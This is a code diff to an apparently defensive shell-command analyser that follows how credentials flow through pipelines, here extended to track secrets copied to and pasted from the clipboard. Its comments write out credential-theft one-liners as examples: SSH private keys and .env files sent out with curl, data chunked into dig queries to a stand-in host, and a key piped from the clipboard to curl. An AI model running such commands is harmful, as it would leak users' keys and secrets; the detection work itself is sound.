@@ -222,6 +222,9 @@ class Pipeline:
         # A credential's path that a listing pipes on, past filters that do not keep only
         # the public keys (`ls ~/.ssh/id_* | grep -v pub | xargs -I{} curl -F f=@{} …`).
         self.piped_path: str | None = None
+        # The credential copied to the clipboard (`pbcopy < ~/.ssh/id_ed25519`): what
+        # `pbpaste` prints next.
+        self.clipboard: str | None = None
 
     def go_on(self, caller: Pipeline) -> None:
         """Take over what the line that runs this one left (``T=$(cat ~/.ssh/id_rsa); sh -c
@@ -233,6 +236,7 @@ class Pipeline:
             caller.staged,
         )
         self.assigned, self.paths = dict(caller.assigned), dict(caller.paths)
+        self.clipboard = caller.clipboard
 
     def close_group(self) -> None:
         """The group (``( … )``, ``{ …; }``, a loop's ``do … done``) ends: what flows on is
@@ -273,6 +277,8 @@ class Pipeline:
             read = self.piped_path  # find … -name '.env*' | xargs tar czf - | curl -T -
         if read is None and script is not None:
             read = _read_by_script(script)
+        if read is None and self.clipboard and _pastes(words):
+            read = self.clipboard  # pbcopy < ~/.ssh/id_ed25519 && pbpaste | curl -d @- …
         if read is None and self.printed and _prints_substitution(words):
             read = self.printed  # echo "{\"text\": \"$(cat .env)\"}" | curl -d @- …, sudo echo
         if self.grouping:
@@ -286,6 +292,9 @@ class Pipeline:
         if via_xargs and stdin and words and basename(words[0]) in _SENDERS:
             # … | fold -w 60 | xargs -I{} dig {}.x.example: each piece given to a sender
             return f"Sends {stdin} to the network ({basename(words[0])}, a piece at a time)"
+        if _copies_to_clipboard(words):
+            given = next((f for f in operands(words[1:]) if is_credential(f)), None)
+            self.clipboard = stdin or given or self.clipboard
         self.flowing = read or stdin
         if command.feeds == "for" and self.flowing:
             self.listed = self.flowing
@@ -342,6 +351,7 @@ class Pipeline:
             not (self.flowing or self.stashed or self.carriers or self.listed or self.printed)
             and not (self.landed or self.staged or self.assigned or self.paths or self.group)
             and self.piped_path is None
+            and self.clipboard is None
         )
 
     def bind_reads(self, commands: Sequence[Command]) -> None:
@@ -551,6 +561,37 @@ _CLI_WORDS = 10  # a CLI's subcommand and options are in its first words
 
 
 _SPLIT_VALUES = frozenset({"-b", "-l", "-n", "-C", "-a", "--bytes", "--lines", "--number"})
+
+
+# The clipboard's tools: those that copy their input (or a file: `xclip -sel c F`) to it,
+# and those that print it.
+_CLIPBOARD_COPIERS = frozenset({"pbcopy", "wl-copy", "clip", "clip.exe", "set-clipboard", "scb"})
+_CLIPBOARD_PASTERS = frozenset({"pbpaste", "wl-paste", "get-clipboard", "gcb"})
+
+
+def _copies_to_clipboard(words: Sequence[str]) -> bool:
+    name = basename(words[0]).lower() if words else ""
+    if name in ("xclip", "xsel"):
+        return not _x_output(name, words[1:])
+    return name in _CLIPBOARD_COPIERS
+
+
+def _pastes(words: Sequence[str]) -> bool:
+    name = basename(words[0]).lower() if words else ""
+    if name in ("xclip", "xsel"):
+        return _x_output(name, words[1:])
+    return name in _CLIPBOARD_PASTERS
+
+
+def _x_output(name: str, args: Sequence[str]) -> bool:
+    """Whether X's clipboard tool prints the clipboard: xclip's ``-o``/``-out`` (its long
+    options take one dash: ``-selection``), xsel's ``--output`` or a cluster with ``o``
+    (``-ob``)."""
+    if name == "xclip":
+        return "-o" in args or "-out" in args
+    return "--output" in args or any(
+        a.startswith("-") and not a.startswith("--") and "o" in a for a in args
+    )
 
 
 def _copies_of_secrets(words: Sequence[str]) -> list[str]:
